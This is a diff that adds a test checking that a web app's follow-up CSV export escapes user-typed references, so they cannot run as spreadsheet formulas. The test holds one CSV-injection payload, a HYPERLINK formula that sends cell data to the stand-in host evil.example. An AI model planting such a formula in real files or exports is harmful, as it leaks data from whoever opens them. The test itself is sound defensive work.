@@ -463,3 +463,22 @@ def test_report_and_status_figures_equal_the_database(app, runner):
         assert loop[key] == pytest.approx(value), key
     text = runner.invoke(["campaigns", "status", slug])
     assert f"follow-ups: {len(rows)} ({len(closed)} closed" in text.output
+
+
+def test_a_typed_reference_cannot_run_as_a_formula_in_the_csv(app, client, live):
+    """A reference typed on closing reaches the CSV a manager opens in a spreadsheet as text."""
+    import csv
+    import io
+
+    login(client, "boss@example.org")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    url = f"/manage/follow-ups/{live['callback']}"
+    client.post(url + "/note", data={"body": "Rappelé", "contact_attempt": "y"})
+    closed = client.post(url + "/close", data={"outcome": "complaint", "reference": hostile})
+    assert closed.status_code == 303
+    exported = client.get("/manage/follow-ups.csv?state=all")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.text))}
+    row = rows[str(live["callback"])]
+    assert row["outcome_reference"] == "'" + hostile
+    # Numbers stay numbers.
+    assert row["score"] == "5" and row["contact_attempts"] == "1"
